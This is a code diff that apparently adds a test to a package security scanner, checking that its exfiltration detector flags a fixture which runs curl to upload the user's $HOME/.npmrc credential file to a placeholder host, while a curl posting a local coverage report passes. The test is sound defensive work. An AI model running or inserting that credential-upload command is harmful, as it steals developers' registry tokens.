@@ -715,6 +715,14 @@ exports.lookup = (host, cb) => { const cached = exports.dnsCache.get(host); if (
     expect(r.ids).not.toContain('exfiltration/flow');
   });
 
+  it('curl uploading a credential file (-F a=@$HOME/.npmrc) reads and sends it in one command; a curl -d of a local JSON file does not', () => {
+    const upload = scan({ 'index.js': `const { exec } = require('child_process');\nexec('curl -s -F "a=@$HOME/.npmrc" https://upload.example.net/u');\n` });
+    expect(upload.findings.find((f) => f.detector === 'exfiltration')?.data).toMatchObject({ source: expect.stringContaining('.npmrc') });
+    expect(['high', 'critical']).toContain(upload.level);
+    const report = scan({ 'index.js': `const { exec } = require('child_process');\nexec('curl -s -d @coverage/summary.json https://coverage.example.net/u');\n` });
+    expect(report.ids).not.toContain('exfiltration/flow');
+  });
+
   it('a field that holds options and a field that is sent are different names', () => {
     const r = scan({
       'lib/client.js': `const https = require('https');\nclass Client {\n  constructor() { this.env = process.env; this.body = ''; }\n  post(data) { this.body = JSON.stringify(data); https.request('https://api.example/v1', { method: 'POST' }).end(this.body); }\n}\nmodule.exports = Client;\n`,
